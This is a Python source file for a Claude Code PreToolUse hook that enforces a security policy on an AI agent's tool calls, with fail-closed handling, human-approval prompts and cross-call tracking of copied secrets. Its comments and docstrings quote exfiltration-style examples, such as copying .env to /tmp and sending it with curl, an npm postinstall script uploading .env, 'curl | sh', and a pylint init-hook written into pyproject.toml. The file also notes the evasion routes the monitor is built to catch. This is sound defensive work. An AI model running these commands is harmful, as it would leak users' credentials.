"""`veriguard hook claude-code --build DIR`: a Claude Code PreToolUse hook that decides every tool
call with a frozen policy whose arguments come from the shell extractor (`from = "shell"`).

Claude Code runs the tool when a hook exits 1, crashes, times out or prints JSON it cannot read, so
this hook ends every failure in exit 2 with the reason on stderr (Claude reads it and can re-plan):
bad or truncated input, a missing or tampered build, an exception anywhere, a decision that takes
too long, and a native crash of the parser. For the last two the decision runs in a forked child;
the parent, which has imported nothing more than the CLI, waits with a deadline and turns anything
but a complete answer into a denial.

What is decided:
  Bash                          tool_input.command, in the hook's cwd, with $HOME
  Write                         a write of file_path, analysed as `tee -- PATH`
  Edit, MultiEdit, NotebookEdit a read and a write of the file: `cat -- PATH && tee -- PATH`
  Read, NotebookRead            a read: `cat -- PATH`
  Grep                          a recursive read of path (default: cwd): `grep -r -e x -- PATH`
  Glob, LS                      a recursive read of the pattern's fixed leading folders: `ls -R -- BASE`
  anything else (mcp__* too)    denied (--other-tools deny, the default), or passed with
                                --other-tools allow / --allow-tool NAME: not this policy's concern
  WebFetch, when let through    its url decided as `curl -s -- URL` (a send: a secret value in it asks)
  WebSearch, when let through   its query and every other string of its input decided as the send of a URL that
                                holds them, percent-encoded (a secret value in the query asks)
File tools are analysed as the equivalent command (the path quoted with shlex.quote, so nothing in it
expands): one analysis, one zone map and one log path serve every tool. Their paths must be absolute;
where a path leads elsewhere through a symbolic link on this machine, the link's target is accessed too.

State across calls (--state FILE, default $HOME/.local/state/veriguard/carried.jsonl; --no-state): the files a command
it allows or asks about writes from the project's secrets (`cp .env /tmp/e`, `git log -p > /tmp/x`) are appended to
the file, and every later call reads them as the project's secrets, so their send asks as the secret's own does. The
file is the guard's ({guard}: no command changes it); one that cannot be read, or a copy that cannot be written to it,
denies. It also keeps the files each allowed or asked send reads (`"sent": true`): a later copy of a secret onto one,
or approved unfollowed code naming one, is denied (the two calls of a parallel batch); the absolute paths outside the
project that such code names are kept as copies. Decisions are taken one at a time (a lock on the state's folder).

Answers: allow is silent (exit 0). Deny is exit 2, the reason on stderr and the hookSpecificOutput
deny object on stdout. When the only thing missing is a human's approval (the same arguments with
`approved = true` are allowed by the policy), the hook answers permissionDecision "ask" (exit 0):
Claude Code shows the reason and asks the user, and that answer is the approval. It asks only in
the "default" and "plan" permission modes, where Claude Code asks a person; in any other mode
(acceptEdits, bypassPermissions, dontAsk, auto) and with --approval deny it denies instead.
"""
from __future__ import annotations

import contextlib
import fnmatch
import itertools
import os
import re
import stat
import sys
from types import MappingProxyType
from typing import Any, Iterable, Iterator, Mapping, NamedTuple, NoReturn, Sequence

INTEGRATION = "claude_code_hook"
MAX_INPUT = 32 * 1024 * 1024                 # bytes of hook JSON (a Write carries the whole file)
DEFAULT_TIMEOUT_S = 20.0
ASK_MODES = ("default", "plan")              # permission modes in which "ask" reaches a person
READ = ("Read", "NotebookRead")
WRITE = ("Write",)
EDIT = ("Edit", "MultiEdit", "NotebookEdit")
LIST = ("Glob", "LS")
DECIDED = ("Bash", "Grep", *READ, *WRITE, *EDIT, *LIST)
PATH_KEYS = ("file_path", "notebook_path", "path")   # where the file tools take their file
FETCH = ("WebFetch", "WebSearch")   # tools that send their input out: when let through (--allow-tool), it is decided
SEARCH_URL = "https://websearch.invalid/search?q="   # where a WebSearch's words go, as `curl` would send them
_NUMBER = (int, float)
# the types of the keys of Claude Code's tool inputs this hook knows (a key not listed is not used): a value of another
# type is refused, not read as something else (`"run_in_background": "yes"` is no background run to the window below)
INPUT_TYPES: Mapping[str, Mapping[str, type | tuple[type, ...]]] = {
    "Bash": {"command": str, "timeout": _NUMBER, "description": str, "run_in_background": bool,
             "dangerouslyDisableSandbox": bool},
    "Write": {"file_path": str, "content": str},
    "Edit": {"file_path": str, "old_string": str, "new_string": str, "replace_all": bool},
    "MultiEdit": {"file_path": str, "edits": list},
    "NotebookEdit": {"notebook_path": str, "new_source": str, "cell_id": str, "cell_type": str, "edit_mode": str},
    "Read": {"file_path": str, "offset": _NUMBER, "limit": _NUMBER},
    "NotebookRead": {"notebook_path": str, "cell_id": str},
    "Glob": {"pattern": str, "path": str},
    "LS": {"path": str, "ignore": list},
    "Grep": {"pattern": str, "path": str, "glob": str, "type": str, "output_mode": str, "-i": bool, "-n": bool,
             "-A": _NUMBER, "-B": _NUMBER, "-C": _NUMBER, "multiline": bool, "head_limit": _NUMBER},
    "WebFetch": {"url": str, "prompt": str},
    "WebSearch": {"query": str, "allowed_domains": list, "blocked_domains": list},
}
EDIT_TYPES: Mapping[str, type | tuple[type, ...]] = {k: t for k, t in INPUT_TYPES["Edit"].items() if k != "file_path"}
STATE_FILE = ".local/state/veriguard/carried.jsonl"   # under $HOME, unless --state names another file
USAGE = ("usage: veriguard hook claude-code --build DIR [--log FILE] [--log-key KEY] [--log-checkpoint FILE] "
         "[--context FILE] [--state FILE | --no-state] "
         "[--other-tools deny|allow] [--allow-tool NAME]... [--approval ask|deny] [--timeout SECONDS] "
         "[--accept-unproved] [--expect-sha256 HEX]")


class Refused(Exception):
    """The call is denied for this reason (bad input, an unusable build, a tool the hook cannot judge)."""


class Answer(NamedTuple):
    code: int            # 0 or 2, never anything else
    stdout: str = ""
    stderr: str = ""


class Options(NamedTuple):
    build: str
    log: str | None = None
    log_key: str | None = None
    context: str | None = None
    other_tools: str = "deny"
    allow_tools: tuple[str, ...] = ()
    approval: str = "ask"
    timeout: float = DEFAULT_TIMEOUT_S
    accept_unproved: bool = False
    env: Mapping[str, str] = MappingProxyType({})
    expect_sha256: str | None = None
    log_checkpoint: str | None = None
    state: str | None = None     # the state across commands (default: STATE_FILE under $HOME; "" with --no-state)


def deny(reason: str) -> Answer:
    import json

    text = " ".join(reason.split()) or "denied"
    obj = {"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "deny",
                                  "permissionDecisionReason": text}}
    return Answer(2, json.dumps(obj) + "\n", text + "\n")


def ask(reason: str) -> Answer:
    import json

    obj = {"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "ask",
                                  "permissionDecisionReason": " ".join(reason.split())}}
    return Answer(0, json.dumps(obj) + "\n", "")


# ------------------------------------------------------------------------------------------------
# entry

def run(argv: Sequence[str]) -> NoReturn:
    """main() as a process of its own (the console script, `python -m veriguard.hook`): no cyclic garbage
    collection in its short life on input of bounded size, and no interpreter clean-up once the answer is
    written and flushed (an exit code is all there is left to give)."""
    import gc

    gc.disable()
    code = 2
    try:
        code = main(argv)
    finally:
        os._exit(code)


def main(argv: Sequence[str] | None = None) -> int:
    """`veriguard hook claude-code ...`: 0 (allow or ask) or 2 (deny), whatever happens inside."""
    saved = _on_signals()
    try:
        answer = _main(list(sys.argv[1:] if argv is None else argv))
    except BaseException as e:  # the last line of defence: nothing may end in exit 1 or a traceback
        answer = deny(f"veriguard hook: internal error, denied: {_describe(e)}")
    finally:
        _restore(saved)
    return _emit(answer)


def _main(argv: list[str]) -> Answer:
    if argv[:1] != ["claude-code"]:
        return deny(f"veriguard hook: unknown integration {argv[:1]}; {USAGE}")
    opts = parse_options(argv[1:])
    if isinstance(opts, Answer):
        return opts
    if _ISOLATE:
        return isolated(opts)
    return decide(_read_stdin(), opts)


def _on_signals() -> dict[int, Any]:
    """A hook stopped by a signal (Claude Code's timeout, a closed terminal) exits 2, not by the signal.
    Returns the handlers it replaced."""
    import signal

    def stop(signum: int, _frame: Any) -> None:
        if _child:  # its output pipes would keep Claude Code waiting
            try:
                os.kill(_child, signal.SIGKILL)
            except OSError:
                pass
        _emit(deny(f"veriguard hook: stopped by signal {signum}; denied"))
        os._exit(2)

    saved: dict[int, Any] = {}
    for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGQUIT"):
        sig = getattr(signal, name, None)
        if sig is not None:
            try:
                saved[sig] = signal.signal(sig, stop)
            except (ValueError, OSError):  # not the main thread
                pass
    return saved


def _restore(saved: dict[int, Any]) -> None:
    import signal

    for sig, handler in saved.items():
        signal.signal(sig, handler)


def _emit(answer: Answer) -> int:
    code = answer.code if answer.code in (0, 2) else 2
    for stream, text in ((sys.stdout, answer.stdout), (sys.stderr, answer.stderr)):
        try:
            stream.write(text)
            stream.flush()
        except BaseException:  # a closed pipe: exit 2 still denies; an "ask" that was not read must not exit 0
            code = 2 if text else code
    return code


# --name VALUE (or --name=VALUE) -> the Options field; each may be given once, but --allow-tool
OPTIONS = {"--build": "build", "--log": "log", "--log-key": "log_key", "--context": "context",
           "--other-tools": "other_tools", "--allow-tool": "allow_tools", "--approval": "approval",
           "--timeout": "timeout", "--expect-sha256": "expect_sha256", "--log-checkpoint": "log_checkpoint",
           "--state": "state"}
CHOICES = {"other_tools": ("deny", "allow"), "approval": ("ask", "deny")}
HELP = f"""Claude Code PreToolUse hook: decide each tool call with a frozen policy (exit 0 allow or ask, exit 2 deny).
  --build DIR            the frozen policy build, DIR/<name>, whose spec reads shell commands (from = "shell")
  --log FILE             append a hash-chained decision record per call to this JSONL file
  --log-key KEY          the private key that signs the log (`veriguard keys new`)
  --log-checkpoint FILE  keep a copy of the log's signed head here too, out of reach of whoever can write the
                         log: a log rolled back behind it, or another log put in its place, denies every call
  --context FILE         a JSON object file of facts added to every observation ({{"user": "root"}} for os_agent)
  --state FILE           the state kept across calls: the files earlier commands wrote from the project's secrets
                         (`cp .env /tmp/e`), read by every later call (`curl -d @/tmp/e URL` then asks as
                         `curl -d @.env URL` does); default $HOME/{STATE_FILE}; one that cannot be read denies
  --no-state             keep no state across calls (each command is judged alone; a copy then asks itself)
  --other-tools deny|allow  tools other than Bash and the file tools: deny (default), or allow as not this
                         policy's concern
  --allow-tool NAME      a tool to let through undecided (repeatable), e.g. TodoWrite
  --approval ask|deny    when only a human's approval is missing: ask the user (default) or deny
  --timeout SECONDS      seconds a decision may take before it is denied (default {DEFAULT_TIMEOUT_S:g}; keep it below the hook's
                         timeout in settings.json)
  --accept-unproved      load a build whose certificate is not PROVED (for trying a policy out, never for
                         guarding an agent)
  --expect-sha256 HEX    refuse the build unless this is the sha256 of its certificate.json (the whole build)
                         or of its policy.py (the policy alone: its certificate's hashes.policy)"""


def parse_options(argv: list[str]) -> Options | Answer:
    """The options, or the denial that says what is wrong with them (--help included: an exit 0 would allow).
    Read by hand, not with argparse: its import and parser cost more than the rest of the options' work on
    every tool call."""
    try:
        return _options(argv)
    except _BadOptions as e:
        return deny(f"veriguard hook: {' '.join(str(e).split()) or 'bad options'}; {USAGE}")


class _BadOptions(Exception):
    pass


def _options(argv: list[str]) -> Options:
    values: dict[str, Any] = {}
    allow_tools: list[str] = []
    accept_unproved = False
    rest = list(argv)
    while rest:
        arg = rest.pop(0)
        if arg in ("-h", "--help"):
            raise _BadOptions(f"--help: {HELP}")
        if arg == "--accept-unproved":
            accept_unproved = True
            continue
        if arg == "--no-state":
            if "state" in values:
                raise _BadOptions("--no-state and --state are given together (or --no-state twice)")
            values["state"] = ""
            continue
        name, eq, value = arg.partition("=")
        field = OPTIONS.get(name)
        if field is None:
            raise _BadOptions(f"unrecognized argument {arg[:80]!r}")
        if not eq:
            if not rest or rest[0].startswith("-"):
                raise _BadOptions(f"{name} expects a value")
            value = rest.pop(0)
        if field == "allow_tools":
            allow_tools.append(value)
            continue
        if field in values:
            raise _BadOptions(f"{name} is given twice" if field != "state" else "--state and --no-state are given "
                              "together (or --state twice)")
        if field == "state" and not value.startswith("/"):
            raise _BadOptions(f"--state must be an absolute path, got {value[:80]!r}")
        if value not in CHOICES.get(field, (value,)):
            raise _BadOptions(f"{name}: {value[:80]!r} is not one of {', '.join(CHOICES[field])}")
        values[field] = value
    if "build" not in values:
        raise _BadOptions("--build is required")
    if "log_checkpoint" in values and "log" not in values:
        raise _BadOptions("--log-checkpoint keeps a copy of the log's head, and no --log was given")
    timeout = _seconds(values.pop("timeout", str(DEFAULT_TIMEOUT_S)))
    return Options(**values, allow_tools=tuple(allow_tools), timeout=timeout, accept_unproved=accept_unproved,
                   env=dict(os.environ))


def _seconds(text: str) -> float:
    try:
        value = float(text)
    except ValueError:
        raise _BadOptions(f"--timeout: {text[:80]!r} is not a number of seconds") from None
    if not 0 < value <= 3600:  # NaN fails here too
        raise _BadOptions(f"--timeout must be more than 0 and at most 3600 seconds, got {value:g}")
    return value


def _read_stdin() -> bytes:
    return sys.stdin.buffer.read(MAX_INPUT + 1)


# ------------------------------------------------------------------------------------------------
# isolation: the decision runs in a forked child; a native crash, a hang or a stray exit code there
# is a denial here

_ISOLATE = hasattr(os, "fork")
_child = 0     # the pid of the decision process while it runs


def isolated(opts: Options) -> Answer:
    import gc
    import json
    import select
    import signal
    import time

    global _child
    r, w = os.pipe()
    gc.freeze()  # the child's collections then leave the parent's objects (and their pages) alone
    pid = os.fork()
    if pid == 0:  # the child: decide, hand the answer over, leave without running any cleanup
        status = 70
        try:
            gc.disable()  # it lives for one decision on input of bounded size: cyclic collection only costs time
            signal.alarm(int(opts.timeout) + 2)  # outlives its parent by seconds at most
            os.close(r)
            os.dup2(2, 1)  # whatever a library prints must not reach Claude Code's stdout
            answer = decide(_read_stdin(), opts)
            data = json.dumps({"code": answer.code, "stdout": answer.stdout, "stderr": answer.stderr}).encode()
            view = memoryview(data)
            while view:
                view = view[os.write(w, view):]
            status = 0
        finally:
            os._exit(status)
    _child = pid
    os.close(w)
    chunks: list[bytes] = []
    deadline = time.monotonic() + opts.timeout
    timed_out = False
    try:
        while True:
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([r], [], [], left)[0]:
                timed_out = True
                break
            chunk = os.read(r, 1 << 16)
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(r)
        if timed_out:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        _, status = os.waitpid(pid, 0)
        _child = 0
    if timed_out:
        return deny(f"veriguard hook: the decision took longer than {opts.timeout:g} s; denied")
    if os.WIFSIGNALED(status):
        sig = os.WTERMSIG(status)
        name = signal.Signals(sig).name if sig in signal.valid_signals() else str(sig)
        return deny(f"veriguard hook: the decision process crashed ({name}); denied")
    if not os.WIFEXITED(status) or os.WEXITSTATUS(status) != 0:
        return deny(f"veriguard hook: the decision process failed (exit status {os.WEXITSTATUS(status)}); denied")
    try:
        got = json.loads(b"".join(chunks))
        answer = Answer(int(got["code"]), str(got["stdout"]), str(got["stderr"]))
    except Exception as e:
        return deny(f"veriguard hook: the decision process answered something unreadable ({_describe(e)}); denied")
    return answer if answer.code in (0, 2) else deny(f"veriguard hook: exit code {answer.code}; denied")


# ------------------------------------------------------------------------------------------------
# the decision

def decide(raw: bytes, opts: Options) -> Answer:
    """The answer to one PreToolUse call (`raw`: the hook JSON). Never raises."""
    try:
        return _decide(raw, opts)
    except Refused as e:
        return deny(f"veriguard hook: {e}")
    except BaseException as e:
        return deny(f"veriguard hook: internal error, denied: {_describe(e)}")


def _decide(raw: bytes, opts: Options) -> Answer:
    call = read_call(raw)
    tool = call["tool_name"]
    passed = tool in opts.allow_tools or opts.other_tools == "allow"
    if tool not in DECIDED and not passed:
        raise Refused(f"the tool {tool[:80]!r} is not one this hook can judge (Bash, Read, Write, Edit, MultiEdit, "
                      "NotebookEdit, NotebookRead, Grep, Glob, LS); it is denied. Pass --allow-tool "
                      f"{tool[:80]} to let it through undecided")
    if tool not in DECIDED and tool not in FETCH:
        return Answer(0)
    # a fetch tool let through is decided on its address, as the send of `curl URL` is
    command = (fetch_command(tool, call["tool_input"]) if tool in FETCH else
               equivalent_command(tool, call["tool_input"], call["cwd"]))
    with decision_lock(opts):   # parallel calls decided one at a time: each sees the copies and sends before it
        return _judge(call, tool, command, opts)


def _judge(call: Mapping[str, Any], tool: str, command: str, opts: Options) -> Answer:
    monitor = load_monitor(opts, _session(call))
    paths = _tool_paths(call["tool_input"]) if tool in WRITE + EDIT else []    # each file tool's path, and its real one
    command = with_settings_code(command, tool, call["tool_input"], monitor, paths)
    command = with_run_commands(command, tool, call["tool_input"], monitor, call["cwd"], opts, paths)
    observation = observe(monitor, command, call["cwd"], opts)
    action_id = call.get("tool_use_id", "")
    remember = copies_veto(monitor, opts, call)    # an allow stands only once its copies are in the state
    record = monitor.check(observation, action_id=action_id, integration=INTEGRATION, tool=tool, veto=remember)
    if record.allowed:
        return Answer(0)
    label = _shown(tool, command)
    why = explain(record)
    if record.fail_closed or not approval_would_allow(monitor.policy, record.arguments):
        return deny(f"veriguard ({monitor.policy.name}) denied {label}: {why}")
    mode = call.get("permission_mode", "")
    if opts.approval != "ask" or mode not in ASK_MODES:
        reason = ("--approval deny is set" if opts.approval != "ask" else
                  f"the permission mode {mode or '(none given)'!r} would not ask a person")
        return deny(f"veriguard ({monitor.policy.name}) denied {label}: it needs a human's approval and {reason}: "
                    f"{why}")
    approved = dict(observation)
    _set(approved, monitor_paths(monitor)["approved"], True)
    second = monitor.check(approved, action_id=action_id, integration=INTEGRATION, tool=tool, mode="ask",
                           veto=remember)    # the user's yes runs it
    if not second.allowed:
        return deny(f"veriguard ({monitor.policy.name}) denied {label}: {explain(second)}")
    return ask(f"veriguard ({monitor.policy.name}): {label} needs your approval: {why}")


def read_call(raw: bytes) -> dict[str, Any]:
    """The hook input, checked: an object with a tool name, its input and an absolute cwd."""
    from veriguard.contracts import strict_json

    if len(raw) > MAX_INPUT:
        raise Refused(f"the hook input is larger than {MAX_INPUT} bytes")
    if not raw.strip():
        raise Refused("the hook input is empty (expected Claude Code's PreToolUse JSON on stdin)")
    try:
        call = strict_json.loads(raw)
    except strict_json.StrictJSONError as e:
        raise Refused(f"the hook input is not valid JSON: {e}") from None
    if not isinstance(call, dict):
        raise Refused(f"the hook input must be a JSON object, got {type(call).__name__}")
    event = call.get("hook_event_name", "PreToolUse")
    if event != "PreToolUse":
        raise Refused(f"hook_event_name is {str(event)[:40]!r}: register this hook for PreToolUse")
    for key, kind in (("tool_name", str), ("tool_input", dict), ("cwd", str)):
        if not isinstance(call.get(key), kind):
            raise Refused(f"the hook input lacks {key!r} (a {kind.__name__}), got {_short(call.get(key))}")
    for key in ("permission_mode", "tool_use_id", "session_id", "transcript_path"):
        if key in call and not isinstance(call[key], str):
            raise Refused(f"{key!r} must be a string, got {_short(call[key])}")
    if not call["cwd"].startswith("/"):
        raise Refused(f"cwd must be an absolute path, got {call['cwd'][:200]!r}")
    check_types(call["tool_name"], call["tool_input"])
    return call


def check_types(tool: str, tool_input: Mapping[str, Any]) -> None:
    """Refused where a key of the tool's input that this hook knows (INPUT_TYPES) holds a value of another type (a
    number is no bool, a bool no number), and where an edit of a MultiEdit is no object of such keys."""
    def bad(value: Any, kind: type | tuple[type, ...]) -> bool:
        return not isinstance(value, kind) or (isinstance(value, bool) and kind is not bool)

    kinds = INPUT_TYPES.get(tool, {})
    for key, kind in kinds.items():
        if key in tool_input and bad(tool_input[key], kind):
            raise Refused(f"{tool}'s {key!r} must be {_kind_name(kind)}, got {_short(tool_input[key])}")
    for key in ("allowed_domains", "blocked_domains", "ignore"):
        if key in kinds and isinstance(tool_input.get(key), list) and not all(
                isinstance(v, str) for v in tool_input[key]):
            raise Refused(f"{tool}'s {key!r} must be a list of strings, got {_short(tool_input[key])}")
    for edit in tool_input.get("edits", []) if tool == "MultiEdit" else []:
        if not isinstance(edit, Mapping) or any(k in edit and bad(edit[k], t) for k, t in EDIT_TYPES.items()):
            raise Refused(f"MultiEdit's edits must be objects of strings (old_string, new_string) and a bool "
                          f"(replace_all), got {_short(edit)}")


def _kind_name(kind: type | tuple[type, ...]) -> str:
    return "a number" if kind == _NUMBER else f"a {getattr(kind, '__name__', kind)}"


def equivalent_command(tool: str, tool_input: Mapping[str, Any], cwd: str) -> str:
    """The shell command whose analysis decides the tool call (file tools: their paths, quoted)."""
    import shlex

    if tool == "Bash":
        command = tool_input.get("command")
        if not isinstance(command, str):
            raise Refused(f"Bash without a command string (got {_short(command)})")
        return command
    if tool in READ + WRITE + EDIT:
        key = "notebook_path" if tool.startswith("Notebook") else "file_path"
        # a path under another of the keys the file tools use is analysed too (NotebookEdit with a file_path beside
        # its notebook_path): which one Claude Code would act on is not this hook's to guess
        keys = [key, *(k for k in PATH_KEYS if k != key and k in tool_input)]
        paths = [p for k in keys for p in _and_real(_absolute(tool_input.get(k), f"{tool}.{k}"))]
        verbs = ("cat",) if tool in READ else ("tee",) if tool in WRITE else ("cat", "tee")
        return " && ".join(f"{verb} -- {shlex.quote(p)}" for verb in verbs for p in paths)
    path = tool_input.get("path")
    base = cwd if path is None else _absolute(path, f"{tool}.path")
    bases = glob_bases(tool_input.get("pattern"), base) if tool == "Glob" else [base]
    verb = "grep -r -e x" if tool == "Grep" else "ls -R"
    return " && ".join(f"{verb} -- {shlex.quote(p)}" for b in bases for p in _and_real(b))


def fetch_command(tool: str, tool_input: Mapping[str, Any]) -> str:
    """A tool that sends its input out, let through with --allow-tool, as the command that sends the same: WebFetch as
    `curl -s -- URL` (a secret value typed into the address asks, as in a Bash send; a file:// address reads that file),
    WebSearch as the send of a URL holding its query and every other string of its input (`allowed_domains`...),
    percent-encoded, since the search provider gets them."""
    import shlex
    import urllib.parse

    if tool == "WebSearch":
        query = tool_input.get("query")
        if not isinstance(query, str) or not query:
            raise Refused(f"WebSearch without a query string (got {_short(query)})")
        words = "&".join(urllib.parse.quote(s, safe="") for s in _strings_in(tool_input))
        return f"curl -s -- {shlex.quote(SEARCH_URL + words)}"
    url = tool_input.get("url")
    if not isinstance(url, str) or not url:
        raise Refused(f"WebFetch without a url string (got {_short(url)})")
    return f"curl -s -- {shlex.quote(url)}"


def with_settings_code(command: str, tool: str, tool_input: Mapping[str, Any], monitor: Any,
                       paths: list[str] | None = None) -> str:
    """A Write or Edit tool's command with the settings its text holds that a tool runs as code (the zone map's
    [settings_code]: pylint's init-hook written into pyproject.toml), as a comment: the analysis reads them in the
    command's text, as in `printf 'init-hook=...' >> pyproject.toml`; the file's text itself may be larger than a
    command may be."""
    if tool not in WRITE + EDIT:
        return command
    from veriguard.enforce.shell import ShellExtractor

    maps = [x.zones for x in monitor.extractors.values() if isinstance(x, ShellExtractor)]
    paths = _tool_paths(tool_input) if paths is None else paths
    maps = [z for z in maps if any(z.holds_code_settings(p) for p in paths)]   # the text of other files is not read
    if not maps:
        return command
    texts = "\n".join([*_strings_in(tool_input), *(_edited(tool, tool_input, p) for p in paths)])
    keys = sorted({k for z in maps for k in z.code_settings(texts)})
    return f"{command} # {' '.join(keys)}" if keys else command


# what a command a file holds may do that the project's own code run by a tool is not let do when typed: send, run
# code the analysis cannot follow (not only a program it does not list: `mkdocs build`), run with sudo or pipe into a
# shell, reach a zone outside the project. Only such a command is decided with the write: a recipe that builds,
# tests or cleans the project adds nothing (`"clean": "rm -rf dist"` stays allowed). A Dockerfile's RUN runs in the
# image (its paths, its packages, `curl | sh` there are the image's): only a send or unfollowed code counts
_RUN_ZONES = ("ssh_keys", "cloud_credentials", "devices", "outside", "system_config", "home")
_RECORDS = ("copies", "sends", "unfollowed", "background", "sourced")   # ShellExtractor's records by command text
_UNLISTED = re.compile(r"unknown \('[^']*' is not in commands\.toml\)")


def with_run_commands(command: str, tool: str, tool_input: Mapping[str, Any], monitor: Any, cwd: str,
                      opts: Options, paths: list[str] | None = None) -> str:
    """A file tool's command with the shell commands the file's new text holds for a tool to run later (npm's
    scripts, make's recipes, a Dockerfile's RUN...: shell_run_files) that _reaches finds, each run in the file's
    folder: the write is decided as if the agent had typed them (`"postinstall": "curl -T .env URL"`, then
    `npm install`)."""
    import shlex

    from veriguard.enforce.shell_run_files import cell_commands, run_file_commands, run_file_kind

    if tool not in WRITE + EDIT:
        return command
    found: list[str] = []
    probe = _Probe(monitor, cwd, opts)
    strings: list[list[str]] = []     # the call's new text, read once where a path's edited text is not there
    for path in dict.fromkeys(_tool_paths(tool_input) if paths is None else paths):
        texts = [t for t in (_edited(tool, tool_input, path),) if t]
        if not texts:
            strings[:] = strings or [_strings_in({k: v for k, v in tool_input.items() if k not in PATH_KEYS})]
            texts = strings[0]
        cmds = ([c for t in texts for c in cell_commands(t)] if tool == "NotebookEdit" else
                [c for t in texts for c in run_file_commands(path, t)])
        folder = shlex.quote(os.path.dirname(path) or "/")
        runs = [f"(cd -- {folder} && {{ {c}\n}})" for c in dict.fromkeys(cmds)]
        image = run_file_kind(path) == "docker"
        # each alone (a send beside an unlisted program reads as the program's unknown, which asks nothing alone),
        # then all as one (a file one command writes and another sends)
        each = [r for r in runs if _reaches(monitor, probe(r), image=image)]
        found += each or (runs if len(runs) > 1 and _reaches(monitor, probe(" ; ".join(runs)), image=image) else [])
    return f"{command} && {{ {' ; '.join(found)} ; }}" if found else command


class _Probe:
    """observe's observation of a command for _reaches: built once (observe re-reads the --context file) and copied
    with each probe's command in the field; observe itself again where the field's place overlaps another filled-in
    place (the later one would win there)."""

    def __init__(self, monitor: Any, cwd: str, opts: Options) -> None:
        self.monitor, self.cwd, self.opts = monitor, cwd, opts
        self.base: dict[str, Any] | None = None

    def __call__(self, command: str) -> dict[str, Any]:
        import copy

        if self.base is None:
            self.base = observe(self.monitor, command, self.cwd, self.opts)
            return copy.deepcopy(self.base)
        paths = monitor_paths(self.monitor)
        field = paths["field"]
        others = [p for k, p in paths.items() if k != "field" and p is not None]
        if field is not None and any(p == field or p.startswith(field + ".") or field.startswith(p + ".")
                                     for p in others):
            return observe(self.monitor, command, self.cwd, self.opts)
        observation = copy.deepcopy(self.base)
        if field is not None:
            _set(observation, field, command)
        return observation


def _reaches(monitor: Any, observation: dict[str, Any], *, image: bool) -> bool:
    """Whether the commands in `observation` do what a typed command is not let do unasked (above), or cannot be
    read: the extractors' reading alone, no decision and no log record. `image`: they run in a container image."""
    from veriguard.enforce.extract_errors import ExtractionError

    for x in monitor.extractors.values():
        kept = {k: dict(v) for k, v in vars(x).items() if k in _RECORDS}    # the reading leaves no copy in the state
        try:
            got = x.extract(observation)
        except ExtractionError:
            return True
        finally:
            for k, v in kept.items():
                getattr(x, k).clear()
                getattr(x, k).update(v)
        value = got.value
        if isinstance(value, Mapping):
            kind = value.get("kind")
            if kind == "network" or (kind == "unknown" and _UNLISTED.sub("", str(got.how)).find("unknown (") >= 0):
                return True
            if not image and (value.get("sudo") is True or value.get("pipes_to_shell") is True):
                return True
        if not image and isinstance(value, list) and any(
                isinstance(t, (list, tuple)) and len(t) == 2 and t[1] in _RUN_ZONES for t in value):
            return True
    return False


def _edited(tool: str, tool_input: Mapping[str, Any], path: str) -> str:
    """The text an Edit or MultiEdit leaves in the file at `path` (its replacements applied to the file as it is: `hoo`
    made `hook` after `init-` builds a key no string of the call holds); "" for other tools, or where the file cannot
    be read in full (the file's own text is then read by the analysis)."""
    from veriguard.enforce.shell import small_text

    edits = tool_input.get("edits") if tool == "MultiEdit" else [tool_input] if tool == "Edit" else None
    text = small_text(path) if isinstance(edits, list) else None
    if not isinstance(edits, list) or not text:
        return ""
    for e in edits:
        old, new = (e.get("old_string"), e.get("new_string")) if isinstance(e, Mapping) else (None, None)
        if isinstance(old, str) and isinstance(new, str) and old:
            text = text.replace(old, new) if e.get("replace_all") is True else text.replace(old, new, 1)
    return text


def _strings_in(value: Any) -> list[str]:
    """Every string in a JSON value (the new text of a Write, an Edit, each edit of a MultiEdit, a notebook cell)."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, Mapping):
        return [s for v in value.values() for s in _strings_in(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings_in(v)]
    return []


def _tool_paths(tool_input: Mapping[str, Any]) -> list[str]:
    """The paths a file tool's input names (PATH_KEYS), each with where its links lead (_and_real)."""
    return [p for k in PATH_KEYS if isinstance(tool_input.get(k), str) for p in _and_real(tool_input[k])]


def _and_real(path: str) -> list[str]:
    """The path, and where its symbolic links lead on this machine when that is elsewhere (the zone
    map matches paths as written)."""
    real = os.path.realpath(path)
    return [path] if real == os.path.normpath(path) else [path, real]


GLOB_CHARS = frozenset("*?[]{}()!\\")   # and extglob: @(x|y), +(x), !(x); a backslash escapes (`.ss\\h` is `.ssh`)
MAX_ALTERNATIVES = 256
MAX_PATTERN = 4096


def glob_bases(pattern: Any, base: str) -> list[str]:
    """The folders a Glob pattern can only match under, one per alternative of its braces (glob libraries expand
    `{/etc,x}/*` to an absolute pattern): see glob_base."""
    if not isinstance(pattern, str) or not pattern:
        raise Refused(f"Glob without a pattern string (got {_short(pattern)})")
    if len(pattern) > MAX_PATTERN:
        raise Refused(f"the Glob pattern is longer than {MAX_PATTERN} characters")
    return list(dict.fromkeys(glob_base(p, base) for p in brace_alternatives(pattern)))


def brace_alternatives(pattern: str) -> list[str]:
    """`pattern` with its braces expanded as glob libraries do (`{a,b}`, nested; a group without a comma and a
    backslash-escaped brace stay as they are); Refused beyond MAX_ALTERNATIVES."""
    done, todo = [], [pattern]
    while todo:
        p = todo.pop()
        group = _brace_group(p)
        if group is None:
            done.append(p)
        else:
            start, end, pieces = group
            todo.extend(p[:start] + piece + p[end + 1:] for piece in reversed(pieces))
        if len(done) + len(todo) > MAX_ALTERNATIVES:
            raise Refused(f"the Glob pattern {pattern[:200]!r} stands for more than {MAX_ALTERNATIVES} patterns")
    return done


def _brace_group(p: str) -> tuple[int, int, list[str]] | None:
    """(start, end, alternatives) of the first `{...}` of `p` with a comma at its own level (one pass)."""
    opened: list[list[int]] = []    # per open brace: its index, then its commas'
    first: tuple[list[int], int] | None = None
    i = 0
    while i < len(p):
        c = p[i]
        if c == "\\":
            i += 2
            continue
        if c == "{":
            opened.append([i])
        elif c == "," and opened:
            opened[-1].append(i)
        elif c == "}" and opened:
            cuts = opened.pop()
            if len(cuts) > 1 and (first is None or cuts[0] < first[0][0]):
                first = cuts, i
        i += 1
    if first is None:
        return None
    cuts, end = first
    return cuts[0], end, [p[a + 1:b] for a, b in zip(cuts, [*cuts[1:], end])]


